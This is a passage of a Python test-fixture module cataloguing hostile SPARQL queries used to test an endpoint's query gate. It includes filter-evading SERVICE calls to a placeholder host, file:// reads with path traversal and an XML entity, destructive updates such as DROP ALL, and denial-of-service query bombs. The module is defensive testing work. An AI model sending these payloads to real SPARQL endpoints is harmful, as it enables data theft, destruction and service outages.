"""What a hostile client could send to the endpoint: a table of attacks, each a name and the text that it sends.

``WEB``, ``FILE`` and ``NAME`` stand for the canaries: an address that somebody listens on, the absolute path of a
file that must not be read, and that file's name alone.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping
from types import MappingProxyType

Table = Mapping[str, Callable[[], str]]

LEVELS = (60, 100, 1_000, 10_000, 100_000)
"""So many that the gate lets them through, and more."""

ALL = "?a ?b ?c"
PRODUCT = "?a ?b ?c . ?d ?e ?f"
CUBE = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"


def _table(*tables: Mapping[str, str]) -> Table:
    """Make a table of texts that are there already into one of texts that are made when they are needed."""
    return MappingProxyType({name: lambda text=text: text for table in tables for name, text in table.items()})


# Ways out: the network, files and other graphs.

SERVICES = _table(
    {
        "plain": "SELECT * { SERVICE <http://WEB/> { ?s ?p ?o } }",
        "silent": "SELECT * { SERVICE SILENT <http://WEB/> { ?s ?p ?o } }",
        "lower-case": "select*{service<http://WEB/>{?s ?p ?o}}",
        "mixed-case": "SELECT * { sErViCe sIlEnT <http://WEB/> { ?s ?p ?o } }",
        "escaped-letter": "SELECT * { S\\u0045RVICE <http://WEB/> { ?s ?p ?o } }",
        "escaped-word": "SELECT * { \\u0053\\u0045\\U00000052\\u0056\\u0049\\u0043\\u0045<http://WEB/>{ ?s ?p ?o } }",
        "escaped-escape": "SELECT * { \\u005cu0053ERVICE <http://WEB/> { ?s ?p ?o } }",
        "variable": "SELECT * { VALUES ?e { <http://WEB/> } SERVICE ?e { ?s ?p ?o } }",
        "bound": "SELECT * { BIND(IRI('http://WEB/') AS ?e) SERVICE SILENT ?e { ?s ?p ?o } }",
        "prefixed": "PREFIX e: <http://WEB/> SELECT * { SERVICE e:x { ?s ?p ?o } }",
        "based": "BASE <http://WEB/> SELECT * { SERVICE <x> { ?s ?p ?o } }",
        "comment-between": "SELECT * { SERVICE#\n<http://WEB/> { ?s ?p ?o } }",
        "comment-before": "SELECT * { #'\nSERVICE <http://WEB/> { ?s ?p ?o } #'\n}",
        "quote-before": "SELECT * { ?s ?p '\\u0027 . SERVICE <http://WEB/> { ?s ?p ?o } #'\n}",
        "escaped-quote-before": "SELECT * { ?s ?p \\u0027x' . SERVICE <http://WEB/> { ?s ?p ?o } }",
        "escaped-line-end": "SELECT * { # \\u000A SERVICE <http://WEB/> { ?s ?p ?o }\n}",
        "long-quote-before": "SELECT * { ?s ?p '''''' . SERVICE <http://WEB/> { ?s ?p ?o } }",
        "less-than-before": "SELECT * { FILTER(1<2) SERVICE <http://WEB/> { ?s ?p ?o } FILTER(2>1) }",
        "less-than-glued": "SELECT * { FILTER(?a<?b) SERVICE<http://WEB/>{ ?s ?p ?o } }",
        "number-before": "SELECT * { ?s ?p 1SERVICE <http://WEB/> { ?s ?p ?o } }",
        "language-before": "SELECT * { ?s ?p 'a'@en SERVICE <http://WEB/> { ?s ?p ?o } }",
        "name-before": "PREFIX a: <http://e/> SELECT * { ?s a:a. SERVICE <http://WEB/> { ?s ?p ?o } }",
        "dot-before": "PREFIX a: <http://e/> SELECT * { ?s ?p a:.SERVICE <http://WEB/> { ?s ?p ?o } }",
        "dot-before-and-a-match": "PREFIX a: <https://w3id.org/sisterkg#Partnership> "
        "SELECT * { ?x ?y a:.SERVICE <http://WEB/> { ?s ?p ?o } }",
        "glued-to-silent": "SELECT * { SERVICESILENT<http://WEB/>{ ?s ?p ?o } }",
        "glued-to-a-variable": "SELECT * { VALUES ?e { <http://WEB/> } SERVICESILENT?e{ ?s ?p ?o } }",
        "glued-to-a-name": "PREFIX : <http://WEB/> SELECT * { SERVICE:x{ ?s ?p ?o } }",
        "glued-to-a-prefix": "PREFIX a: <http://WEB/> SELECT * { SERVICEa:x{ ?s ?p ?o } }",
        "glued-to-silent-and-a-prefix": "PREFIX a: <http://WEB/> SELECT * { servicesilenta:x{ ?s ?p ?o } }",
        "glued-to-a-prefix-with-a-tie": "PREFIX a\u203fb: <http://WEB/> SELECT * { SERVICEa\u203fb:x{ ?s ?p ?o } }",
        "glued-to-a-prefix-with-an-accent": "PREFIX a\u0301b: <http://WEB/> "
        "SELECT * { SERVICESILENTa\u0301b:x{ ?s ?p ?o } }",
        "glued-to-a-prefix-with-a-joiner": "PREFIX \u200ca: <http://WEB/> SELECT * { SERVICE\u200ca:x{ ?s ?p ?o } }",
        "glued-behind-a-number": "PREFIX : <http://WEB/> SELECT * { OPTIONAL { ?s ?p 1 .SERVICE:x { ?s ?p ?o } } }",
        "glued-behind-true": "PREFIX : <http://WEB/> SELECT * { OPTIONAL { ?s ?p true.SERVICE:x { ?s ?p ?o } } }",
        "less-than-to-a-comment": "SELECT * { ?a ?b ?c FILTER(?a<?b)SERVICE#>\n<http://WEB/> { ?s ?p ?o } }",
        "less-than-to-a-comment-and-variable": "SELECT * { VALUES ?e { <http://WEB/> } "
        "FILTER(1<2)SERVICE#>\n?e { ?s ?p ?o } }",
        "behind-an-escaped-quote-and-a-hash": 'SELECT * { OPTIONAL { ?s ?p "\\u0022" } '
        "OPTIONAL { ?s <http://e/\\u0041#> ?o } SERVICE <http://WEB/> { ?s ?p ?o } }",
        "behind-an-escape-in-a-name": "SELECT * { OPTIONAL { ?s <http://e/\\u0041#'> ?o } "
        "SERVICE <http://WEB/> { ?s ?p ?o } }",
        "blank-node-before": "SELECT * { ?s ?p _:a.SERVICE <http://WEB/> { ?s ?p ?o } }",
        "subselect": "SELECT * { { SELECT * { { SERVICE <http://WEB/> { ?s ?p ?o } } } } }",
        "not-exists": "ASK { ?s ?p ?o FILTER NOT EXISTS { SERVICE <http://WEB/> { ?s ?p ?o } } }",
        "optional": "SELECT * { OPTIONAL { SERVICE SILENT <http://WEB/> { ?s ?p ?o } } }",
        "construct": "CONSTRUCT { ?s ?p ?o } { SERVICE <http://WEB/> { ?s ?p ?o } }",
        "describe": "DESCRIBE ?s { SERVICE <http://WEB/> { ?s ?p ?o } }",
        "https": "SELECT * { SERVICE <https://WEB/> { ?s ?p ?o } }",
        "file": "SELECT * { SERVICE <file://FILE> { ?s ?p ?o } }",
        "no-break-space": "SELECT * {\u00a0SERVICE\u00a0<http://WEB/> { ?s ?p ?o } }",
        "byte-order-mark": "\ufeffSELECT * { SERVICE <http://WEB/> { ?s ?p ?o } }",
        "zero-width-space": "SELECT * { SERVICE\u200b<http://WEB/> { ?s ?p ?o } }",
        "form-feed": "SELECT * {\fSERVICE\v<http://WEB/>\x85{ ?s ?p ?o } }",
        "dotless-i": "SELECT * { SERVıCE <http://WEB/> { ?s ?p ?o } }",
        "long-s": "SELECT * { \u017fERVICE <http://WEB/> { ?s ?p ?o } }",
        "full-width": "SELECT * { ＳＥＲＶＩＣＥ <http://WEB/> { ?s ?p ?o } }",
    }
)

_IRIS = {
    "http": "http://WEB/",
    "https": "https://WEB/",
    "upper-case-scheme": "HTTP://WEB/",
    "with-user": "http://user:word@WEB/",
    "file": "file://FILE",
    "file-on-localhost": "file://localhostFILE",
    "file-of-one-slash": "file:FILE",
    "file-in-upper-case": "FILE://FILE".replace("FILE:", "File:", 1),
    "file-escaped": "file://%2e%2e/..FILE",
    "file-with-slash-escaped": "file:%2FFILE",
    "relative": "NAME",
    "relative-up": "../../../../../../../..FILE",
    "bare-path": "FILE",
}

GRAPHS = _table(
    {f"from-{name}": f"SELECT * FROM <{iri}> {{ ?s ?p ?o }}" for name, iri in _IRIS.items()},
    {f"named-{name}": f"SELECT * FROM NAMED <{iri}> {{ GRAPH ?g {{ ?s ?p ?o }} }}" for name, iri in _IRIS.items()},
    {f"graph-{name}": f"SELECT * {{ GRAPH <{iri}> {{ ?s ?p ?o }} }}" for name, iri in _IRIS.items()},
    {
        "from-based": "BASE <file://FILE> SELECT * FROM <> { ?s ?p ?o }",
        "from-prefixed": "PREFIX f: <file://FILE> SELECT * FROM f: { ?s ?p ?o }",
        "from-escaped": "SELECT * \\u0046ROM <file://FILE> { ?s ?p ?o }",
        "from-lower-case": "select*from<http://WEB/>{?s ?p ?o}",
        "describe-from": "DESCRIBE ?s FROM <file://FILE> { ?s ?p ?o }",
        "construct-from": "CONSTRUCT { ?s ?p ?o } FROM <http://WEB/> { ?s ?p ?o }",
        "ask-from": "ASK FROM <http://WEB/> { ?s ?p ?o }",
        "describe": "DESCRIBE <http://WEB/> <file://FILE>",
        "bound-graph": "SELECT * { BIND(IRI('file://FILE') AS ?g) GRAPH ?g { ?s ?p ?o } }",
        "import": "SELECT * { <file://FILE> <http://www.w3.org/2002/07/owl#imports> <http://WEB/> }",
        "doc-function": "SELECT (<http://www.w3.org/2005/xpath-functions#doc>('file://FILE') AS ?x) {}",
        "unparsed-text": "SELECT (<http://www.w3.org/2005/xpath-functions#unparsed-text>('file://FILE') AS ?x) {}",
        "java-function": "SELECT (<java:java.net.URL>('http://WEB/') AS ?x) {}",
        "function-address": "SELECT (<http://WEB/>(1) AS ?x) {}",
        "include": "#include <file://FILE>\nSELECT * { ?s ?p ?o } LIMIT 1",
        "entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file://FILE">]><a>&b;</a>',
    },
)

GRAPH_PARAMETERS: tuple[str, ...] = tuple(_IRIS.values())
"""What may be named as a graph by a parameter of the request."""

_TRIPLE = "<http://e/s> <http://e/p> <http://e/o>"

UPDATES = _table(
    {
        "insert-data": f"INSERT DATA {{ {_TRIPLE} }}",
        "insert-where": f"INSERT {{ {_TRIPLE} }} WHERE {{}}",
        "delete-data": f"DELETE DATA {{ {_TRIPLE} }}",
        "delete-where": "DELETE WHERE { ?s ?p ?o }",
        "delete-insert": f"DELETE {{ ?s ?p ?o }} INSERT {{ {_TRIPLE} }} WHERE {{ ?s ?p ?o }}",
        "with": f"WITH <http://e/g> DELETE {{ ?s ?p ?o }} INSERT {{ {_TRIPLE} }} WHERE {{ ?s ?p ?o }}",
        "load-http": "LOAD <http://WEB/>",
        "load-silent": "LOAD SILENT <http://WEB/> INTO GRAPH <http://e/g>",
        "load-file": "LOAD <file://FILE>",
        "load-relative": "LOAD <NAME>",
        "load-escaped": "\\u004c\\u004f\\u0041\\u0044 <http://WEB/>",
        "clear": "CLEAR ALL",
        "clear-escaped": "\\U00000043LEAR SILENT DEFAULT",
        "drop": "DROP ALL",
        "create": "CREATE GRAPH <http://e/g>",
        "add": "ADD DEFAULT TO <http://e/g>",
        "move": "MOVE DEFAULT TO <http://e/g>",
        "copy": "COPY DEFAULT TO <http://e/g>",
        "lower-case": "delete where { ?s ?p ?o }",
        "behind-a-prologue": "PREFIX a: <http://e/> BASE <http://e/> # ASK {}\nDELETE WHERE { ?s ?p ?o }",
        "behind-a-query": "ASK {} ; DELETE WHERE { ?s ?p ?o }",
        "behind-a-query-on-a-line": "ASK {}\nDELETE WHERE { ?s ?p ?o }",
        "behind-an-update": f"DELETE WHERE {{ ?s ?p ?o }} ; INSERT DATA {{ {_TRIPLE} }}",
        "before-a-query": "DELETE WHERE { ?s ?p ?o } ; ASK {}",
        "in-a-query": "SELECT * { DELETE WHERE { ?s ?p ?o } }",
        "construct-into": "CONSTRUCT { ?s ?p ?o } INTO <http://e/g> { ?s ?p ?o }",
        "version": 'VERSION "1.2" DELETE WHERE { ?s ?p ?o }',
    }
)


# Bombs: short texts whose answers have no end, or no place in the memory.


def _doubling(step: str, times: int, seed: str = '"sisterkg"', end: str = "STRLEN(?x{})") -> str:
    """Bind ?x1 by what is made of ?x0, ?x2 by what is made of ?x1, and so on."""
    binds = " ".join(f"BIND({step.replace('X', f'?x{n}')} AS ?x{n + 1})" for n in range(times))
    return f"SELECT ({end.format(times)} AS ?end) {{ BIND({seed} AS ?x0) {binds} }}"


_CONCATENATED = "CONCAT(STR(?a), STR(?b), STR(?c), STR(?d), STR(?e), STR(?f))"
_STEP = "(<http://e/p>|!<http://e/p>)"

BOMBS = _table(
    {
        "count-of-6": f"SELECT (COUNT(*) AS ?n) {{ {CUBE} . ?j ?k ?l . ?m ?n1 ?o . ?q ?r ?s }}",
        "count-distinct": f"SELECT (COUNT(DISTINCT {_CONCATENATED}) AS ?n) {{ {PRODUCT} }}",
        "product": f"SELECT * {{ {CUBE} }}",
        "distinct": f"SELECT DISTINCT * {{ {CUBE} }}",
        "reduced": f"SELECT REDUCED * {{ {CUBE} }}",
        "order-by": f"SELECT * {{ {CUBE} }} ORDER BY ?a DESC(?d) ?g LIMIT 1",
        "order-by-random": f"SELECT * {{ {CUBE} }} ORDER BY RAND() LIMIT 1",
        "group-by": f"SELECT ?a ?d ?g (COUNT(*) AS ?n) {{ {CUBE} }} GROUP BY ?a ?d ?g HAVING (COUNT(*) > 1000000)",
        "group-by-uuid": f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} }} GROUP BY (STRUUID())",
        "group-concat": f"SELECT (GROUP_CONCAT({_CONCATENATED}) AS ?x) {{ {PRODUCT} }}",
        "group-concat-length": f"SELECT (STRLEN(GROUP_CONCAT({_CONCATENATED})) AS ?x) {{ {CUBE} }}",
        "group-concat-distinct": f"SELECT (GROUP_CONCAT(DISTINCT {_CONCATENATED}) AS ?x) {{ {CUBE} }}",
        "group-concat-separator": "SELECT (GROUP_CONCAT(?c; SEPARATOR='"
        + "x" * 90_000
        + f"') AS ?x) {{ {PRODUCT} }}",
        "sample": f"SELECT (SAMPLE(?a) AS ?x) (MAX(?d) AS ?y) (MIN(?g) AS ?z) {{ {CUBE} }}",
        "ask": f"ASK {{ {CUBE} FILTER(?a = ?d && ?d = 1) }}",
        "construct": f"CONSTRUCT {{ ?a ?b ?f . ?d ?e ?i . ?g ?h ?c }} {{ {CUBE} }}",
        "construct-blank-nodes": f"CONSTRUCT {{ {'[] ?b ?c . ' * 1_000} }} {{ {CUBE} }}",
        "describe": f"DESCRIBE ?a ?d {{ {CUBE} }}",
        "describe-all": "DESCRIBE ?a ?b ?c { ?a ?b ?c }",
        "exists": f"SELECT ?a {{ {ALL} FILTER NOT EXISTS {{ {CUBE} FILTER(?a = 1) }} }}",
        "minus": f"SELECT ?a {{ {PRODUCT} MINUS {{ {CUBE} }} }}",
        "optional": f"SELECT (COUNT(*) AS ?n) {{ {ALL} OPTIONAL {{ {CUBE} . ?j ?k ?l }} }}",
        "union": "SELECT (COUNT(*) AS ?n) { " + "{ ?a ?b ?c } UNION " * 50 + f"{{ {CUBE} }} }}",
        "offset": f"SELECT * {{ {CUBE} }} OFFSET 9000000000 LIMIT 1",
        "limit": f"SELECT * {{ {CUBE} }} LIMIT 9223372036854775807",
        "limit-too-large": f"SELECT * {{ {CUBE} }} LIMIT 99999999999999999999999999",
        "undefined-join": "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"VALUES (?a ?b ?c) {{ {'(UNDEF 1 2) (1 UNDEF 2) (1 2 UNDEF) ' * 150} }}" for _ in range(4))
        + " }",
        "hashes": f"SELECT (MAX(SHA512({_CONCATENATED})) AS ?n) {{ {PRODUCT} }}",
        "random-filter": f"SELECT * {{ {CUBE} FILTER(RAND() > 2) }}",
        "concat": _doubling("CONCAT(X, X)", 40),
        "concat-of-a-long-text": _doubling("CONCAT(X, X)", 40, f'"{"x" * 50_000}"'),
        "concat-in-a-row": _doubling("CONCAT(X, X, X, X, X, X, X, X, X, X)", 12, end="?x{}"),
        "concat-nested": "SELECT (STRLEN("
        + "CONCAT(" * 90
        + "'sisterkg'"
        + "".join(f",'{'x' * 900}')" for _ in range(90))
        + ") AS ?n) {}",
        "concat-of-one-variable": "SELECT (SUM(STRLEN(CONCAT(" + ",".join(["?x"] * 9_000) + "))) AS ?n) "
        f"{{ {ALL} BIND(CONCAT(STR(?a), STR(?b), STR(?c)) AS ?x) }}",
        "replace": _doubling("REPLACE(X, '(.)', '$1$1')", 40),
        "replace-by-all": _doubling("REPLACE(X, '.+', '$0$0$0$0$0$0$0$0')", 16),
        "replace-of-nothing": _doubling("REPLACE(X, 'i', CONCAT(X, X))", 30),
        "encode-for-uri": _doubling("ENCODE_FOR_URI(X)", 40, '"%%%%%%%%"'),
        "upper-case": _doubling("UCASE(CONCAT(X, 'ﬃ', X))", 40),
        "iri": _doubling("IRI(CONCAT(STR(X), '/', STR(X)))", 40, "<http://e/a>", "STRLEN(STR(?x{}))"),
        "string-language": _doubling("STRLANG(CONCAT(STR(X), STR(X)), 'en')", 40),
        "triple-terms": _doubling("TRIPLE(<http://e/s>, <http://e/p>, X)", 200, "1", "ISTRIPLE(?x{})"),
        "triple-terms-twice": "SELECT ?end { " + "BIND(1 AS ?x0) "
        "VALUES ?s { <http://e/s> } "
        + " ".join(f"BIND(TRIPLE(?s, <http://e/p>, CONCAT(STR(?x{n}), STR(?x{n}))) AS ?x{n + 1})" for n in range(40))
        + " BIND(?x40 AS ?end) }",
        "big-product": _doubling("(X * X)", 60, "7.5", "?x{}"),
        "big-integer": _doubling("(X * X)", 60, "9223372036854775807", "?x{}"),
        "division-by-zero": "SELECT (1/0 AS ?a) (1.0/0 AS ?b) (1e0/0 AS ?c) (-9223372036854775808/-1 AS ?d) {}",
        "lowest-integer": "SELECT (ABS(-9223372036854775807-1) AS ?a) (-(-9223372036854775807-1) AS ?b) {}",
        "substring": "SELECT (SUBSTR('a', -9223372036854775807, 9223372036854775807) AS ?a) "
        "(SUBSTR('aé', 9223372036854775807, -1) AS ?b) (SUBSTR('é', 1e308, 1e308) AS ?c) {}",
        "far-date": "PREFIX x: <http://www.w3.org/2001/XMLSchema#> SELECT "
        "(x:dateTime('999999999999999-12-31T23:59:60Z') + x:duration('P999999999999Y') AS ?a) "
        "(x:dateTime('-271821-04-20T00:00:00Z') - x:dateTime('275760-09-13T00:00:00Z') AS ?b) "
        "(x:dayTimeDuration('P9223372036854775807DT9223372036854775807S') AS ?c) "
        "(YEAR('170141183460469231731687303715884105727-01-01T00:00:00Z'^^x:dateTime) AS ?d) {}",
        "round": "SELECT (ROUND(1e308*10) AS ?a) (CEIL(-170141183460469231731.0) AS ?b) (FLOOR(0.0/0.0) AS ?c) {}",
    }
)

PATHS = _table(
    {
        "everything-star": f"SELECT (COUNT(*) AS ?n) {{ ?a {_STEP}* ?b . ?b {_STEP}* ?c . ?c {_STEP}* ?d }}",
        "everything-plus": f"SELECT (COUNT(*) AS ?n) {{ ?a {_STEP}+ ?b . ?c {_STEP}+ ?d }}",
        "both-ways": "SELECT (COUNT(*) AS ?n) { ?a (!<http://e/p>|^!<http://e/p>)+ ?b . ?b ?c ?d . ?d ?e ?f }",
        "stars-of-stars": f"SELECT (COUNT(*) AS ?n) {{ ?a ((({_STEP}*)*)*)* ?b }}",
        "pluses-in-a-row": "SELECT (COUNT(*) AS ?n) { ?a " + "/".join([f"{_STEP}+"] * 20) + " ?b }",
        "stars-in-a-row": "SELECT (COUNT(*) AS ?n) { ?a " + "/".join([f"{_STEP}*"] * 200) + " ?b }",
        "optional-steps": "SELECT (COUNT(*) AS ?n) { ?a " + "/".join([f"{_STEP}?"] * 60) + " ?b }",
        "back-and-forth": "SELECT (COUNT(*) AS ?n) { ?a " + "/".join([f"{_STEP}/^{_STEP}"] * 10) + " ?b }",
        "alternatives-in-a-row": "SELECT (COUNT(*) AS ?n) { ?a "
        + "/".join(["(!<http://e/p>|!<http://e/q>|^!<http://e/r>)"] * 30)
        + " ?b }",
        "self": f"SELECT * {{ ?a {_STEP}+/{_STEP}*/{_STEP}+ ?a . ?a {_STEP}+ ?b }}",
        "unbound-values": "SELECT (COUNT(*) AS ?n) { ?a (<http://e/p>*)* ?b . ?c (<http://e/p>?)* ?d . ?e ?f ?g }",
        "filter": f"SELECT * {{ ?a ?b ?c FILTER NOT EXISTS {{ ?x {_STEP}* ?y . ?y {_STEP}* ?z FILTER(?z = 1) }} }}",
    }
)


# Nesting. The engine's parser calls itself for each level.

Nesting = tuple[str, str, str, str, str]
"""What comes before, what opens a level, what is at the bottom, what closes a level, and what comes after."""

NESTINGS: Mapping[str, Nesting] = MappingProxyType(
    {
        "parentheses": ("ASK { FILTER(", "(", "1", ")", ") }"),
        "parentheses-like-an-iri": ("ASK { FILTER(1<", "(", "1", ")", "&&1>0) }"),
        "groups": ("ASK { ", "{", "", "}", " }"),
        "optional": ("ASK { ", "OPTIONAL { ?s ?p ?o ", "", "}", " }"),
        "union": ("ASK { ", "{ {} UNION ", "{}", "}", " }"),
        "minus": ("ASK { ", "?s ?p ?o MINUS { ", "", "}", " }"),
        "graph": ("ASK { ", "GRAPH ?g { ", "", "}", " }"),
        "subselects": ("ASK { ", "{ SELECT * { ", "?s ?p ?o", "} }", " }"),
        "not-exists": ("ASK { ", "FILTER NOT EXISTS { ?s ?p ?o ", "", "}", " }"),
        "exists-in-bind": ("ASK { ", "BIND(EXISTS { ", "", "} AS ?x)", " }"),
        "path-groups": ("ASK { ?s ", "(", "<http://e/p>", ")", " ?o }"),
        "path-stars": ("ASK { ?s ", "(", "<http://e/p>", ")*", " ?o }"),
        "path-inverses": ("ASK { ?s ", "^(", "<http://e/p>", ")", " ?o }"),
        "path-alternatives": ("ASK { ?s ", "(<http://e/q>|", "<http://e/p>", ")", " ?o }"),
        "path-sequences": ("ASK { ?s ", "(<http://e/q>/", "<http://e/p>", ")+", " ?o }"),
        "negations": ("ASK { FILTER(", "!", "true", "", ") }"),
        "spaced-negations": ("ASK { FILTER(", "! ", "true", "", ") }"),
        "minus-signs": ("ASK { FILTER(", "- ", "?x", "", ") }"),
        "plus-signs": ("ASK { FILTER(", "+ ", "?x", "", ") }"),
        "carets": ("ASK { ?s ", "^", "<http://e/p>", "", " ?o }"),
        "sums": ("ASK { FILTER(", "(1+", "1", ")", ") }"),
        "functions": ("ASK { FILTER(", "STR(", "1", ")", ") }"),
        "named-functions": ("ASK { FILTER(", "<http://e/f>(", "1", ")", ") }"),
        "concat": ("ASK { FILTER(", "CONCAT('x',", "'x'", ")", ") }"),
        "if": ("ASK { FILTER(", "IF(true, 1, ", "1", ")", ") }"),
        "coalesce": ("ASK { FILTER(", "COALESCE(?x, ", "1", ")", ") }"),
        "in": ("ASK { FILTER(", "1 IN (", "1", ")", ") }"),
        "aggregates": ("SELECT (", "COUNT(", "?s", ")", " AS ?n) { ?s ?p ?o }"),
        "collections": ("ASK { ?s ?p ", "(", "1", ")", " }"),
        "blank-nodes": ("ASK { ?s ?p ", "[ <http://e/p> ", "1", "]", " }"),
        "template": ("CONSTRUCT { ?s ?p ", "[ <http://e/p> ", "1", "]", " } { ?s ?p ?o }"),
        "quoted-triples": ("ASK { ", "<< ", "<http://e/s>", " <http://e/p> <http://e/o> >>", " ?p ?o }"),
        "quoted-objects": ("ASK { ?s ?p ", "<< ?s ?p ", "<http://e/o>", " >>", " }"),
        "triple-terms": ("ASK { ?s ?p ", "<<( ?s ?p ", "<http://e/o>", " )>>", " }"),
        "triple-values": (
            "ASK { VALUES ?x { ",
            "<<( <http://e/s> <http://e/p> ",
            "1",
            " )>>",
            " } }",
        ),
        "annotations": ("ASK { ?s ?p ?o ", "{| <http://e/p> <http://e/o> ", "", "|}", " }"),
        "quotes": ("ASK { FILTER(", "'\\'", "1", "'", ") }"),
        "brackets-never-closed": ("ASK { FILTER(", "(", "1", "", ""),
        "mixed-never-closed": ("ASK ", "{[(<<'", "", "", ""),
        "less-than-signs": ("ASK { ", "<", "", "", ""),
        "lateral": ("ASK { ", "LATERAL { ?s ?p ?o ", "", "}", " }"),
    }
)


def nested(name: str, levels: int) -> str:
    """Return a query with so many levels of one kind of nesting."""
    before, opening, bottom, closing, after = NESTINGS[name]
    return before + opening * levels + bottom + closing * levels + after


# Long queries: what an optimiser could try in every order.


def _joined(pattern: str, times: int, between: str = " ") -> str:
    """Repeat a pattern; ``§`` in it is the number of its turn, ``¶`` the next."""
    return between.join(pattern.replace("§", str(n)).replace("¶", str(n + 1)) for n in range(times))


_RAISED = "http://www.w3.org/2001/XMLSchema#decimal"

LONG = MappingProxyType(
    {
        "patterns-in-a-chain": lambda: f"ASK {{ {_joined('?x§ ?p§ ?x¶ .', 1_000)} }}",
        "patterns-in-a-star": lambda: f"ASK {{ {_joined('?x ?p§ ?o§ .', 1_000)} }}",
        "patterns-apart": lambda: f"SELECT (COUNT(*) AS ?n) {{ {_joined('?s§ ?p§ ?o§ .', 1_000)} }}",
        "patterns-in-a-cycle": lambda: f"ASK {{ {_joined('?x§ <http://e/p> ?x¶ .', 999)} ?x999 <http://e/p> ?x0 }}",
        "patterns-in-a-clique": lambda: (
            "ASK { " + " . ".join(f"?x{n} ?p{n} ?x{m}" for n in range(45) for m in range(n)) + " }"
        ),
        "patterns-of-one-name": lambda: f"SELECT (COUNT(*) AS ?n) {{ {_joined('?s a ?o§ .', 1_000)} }}",
        "patterns-by-semicolons": lambda: f"ASK {{ ?s ?p ?o {_joined('; ?p§ ?o§', 4_000)} }}",
        "path-steps": lambda: f"ASK {{ ?s {_joined('<http://e/§>', 1_000, '/')} ?o }}",
        "path-steps-of-any": lambda: f"SELECT (COUNT(*) AS ?n) {{ ?s {_joined('!<http://e/§>', 1_000, '/')} ?o }}",
        "path-alternatives": lambda: f"ASK {{ ?s {_joined('<http://e/§>', 1_000, '|')} ?o }}",
        "path-alternatives-star": lambda: f"ASK {{ ?s ({_joined('<http://e/§>', 1_000, '|')})* ?o }}",
        "path-alternatives-of-steps": lambda: (
            "ASK { ?s " + "/".join([f"({_joined('<http://e/§>', 5, '|')})"] * 500) + " ?o }"
        ),
        "path-negated-set": lambda: f"ASK {{ ?s !({_joined('<http://e/§>', 1_000, '|')}) ?o }}",
        "in-list": lambda: f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} FILTER(?c IN ({_joined('§', 1_000, ',')})) }}",
        "not-in-list": lambda: (
            f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} FILTER(?c NOT IN ({_joined('§', 1_000, ',')})) }}"
        ),
        "in-list-of-patterns": lambda: f"SELECT * {{ {CUBE} FILTER(?a IN ({_joined('STR(?c)', 1_000, ',')})) }}",
        "collection": lambda: f"ASK {{ ?s ?p ({_joined('?x§', 1_000)}) }}",
        "objects": lambda: f"ASK {{ ?s ?p {_joined('?x§', 1_000, ',')} }}",
        "optionals": lambda: f"SELECT (COUNT(*) AS ?n) {{ ?s a ?o {_joined('OPTIONAL { ?s ?p§ ?o§ }', 1_000)} }}",
        "optionals-apart": lambda: f"SELECT (COUNT(*) AS ?n) {{ {_joined('OPTIONAL { ?s§ ?p§ ?o§ }', 1_000)} }}",
        "unions": lambda: f"SELECT (COUNT(*) AS ?n) {{ {_joined('{ ?s ?p§ ?o }', 1_000, ' UNION ')} }}",
        "unions-joined": lambda: (
            f"SELECT (COUNT(*) AS ?n) {{ {_joined('{ ?s ?p§ ?o } UNION { ?o ?p§ ?s } .', 500)} }}"
        ),
        "minuses": lambda: f"SELECT * {{ ?s ?p ?o {_joined('MINUS { ?s§ ?p ?o }', 1_000)} }}",
        "exists": lambda: f"SELECT * {{ ?s ?p ?o {_joined('FILTER EXISTS { ?s§ ?p ?o }', 1_000)} }}",
        "filters": lambda: f"SELECT * {{ ?s ?p ?o {_joined('FILTER(?o != §)', 2_000)} }}",
        "subselects": lambda: f"ASK {{ {_joined('{ SELECT ?s { ?s ?p§ ?o } }', 1_000)} }}",
        "graphs": lambda: f"ASK {{ {_joined('GRAPH ?g§ { ?s ?p ?o }', 1_000)} }}",
        "binds": lambda: f"SELECT * {{ {_joined('BIND(§ AS ?x§)', 2_000)} }}",
        "binds-5000": lambda: f"SELECT * {{ {_joined('BIND(§ AS ?x§)', 5_000)} }}",
        "binds-in-a-chain": lambda: f"SELECT * {{ BIND(1 AS ?x0) {_joined('BIND(?x§ + 1 AS ?x¶)', 1_500)} }}",
        "and": lambda: f"ASK {{ {ALL} FILTER({_joined('?c != §', 3_000, ' && ')}) }}",
        "or": lambda: f"ASK {{ {ALL} FILTER({_joined('?c = §', 3_000, ' || ')}) }}",
        "sum": lambda: f"SELECT ({_joined('§', 9_000, ' + ')} AS ?n) {{}}",
        "difference": lambda: f"SELECT ({_joined('§', 9_000, ' - ')} AS ?n) {{}}",
        "product": lambda: f"SELECT ({_joined('§', 9_000, ' * ')} AS ?n) {{}}",
        "signed-numbers": lambda: f"SELECT (1 {_joined('-§', 9_000)} AS ?n) {{}}",
        "comparisons": lambda: f"ASK {{ FILTER({_joined('§', 1_000, ' = ')}) }}",
        "values-200000": lambda: f"SELECT * {{ VALUES ?x {{ {'1 ' * 200_000} }} }}",
        "values": lambda: f"SELECT (COUNT(*) AS ?n) {{ VALUES ?x {{ {'1 ' * 19_000} }} VALUES ?y {{ 1 }} }}",
        "values-joined": lambda: "SELECT (COUNT(*) AS ?n) { " + f"VALUES ?x {{ {'1 ' * 4_000} }} " * 4 + "}",
        "values-wide": lambda: f"SELECT * {{ VALUES ({_joined('?x§', 7_000)}) {{ ({'UNDEF ' * 7_000}) }} }}",
        "values-behind": lambda: f"SELECT * {{ {CUBE} }} VALUES ?c {{ {_joined('§', 15_000)} }}",
        "variables": lambda: f"SELECT {_joined('?x§', 9_000)} {{ {PRODUCT} }}",
        "expressions": lambda: f"SELECT {_joined('(?c AS ?x§)', 3_000)} {{ {PRODUCT} }}",
        "aggregates": lambda: f"SELECT {_joined('(COUNT(DISTINCT ?c) AS ?x§)', 1_500)} {{ {PRODUCT} }}",
        "order-keys": lambda: f"SELECT * {{ {PRODUCT} }} ORDER BY {_joined('RAND()', 4_000)}",
        "group-keys": lambda: f"SELECT (COUNT(*) AS ?n) {{ {PRODUCT} }} GROUP BY {_joined('(?c AS ?x§)', 2_000)}",
        "having": lambda: f"SELECT ?a {{ {PRODUCT} }} GROUP BY ?a HAVING {_joined('(COUNT(?c) > §)', 2_000)}",
        "template": lambda: f"CONSTRUCT {{ {_joined('?a ?b _:b§ .', 4_000)} }} {{ {PRODUCT} }}",
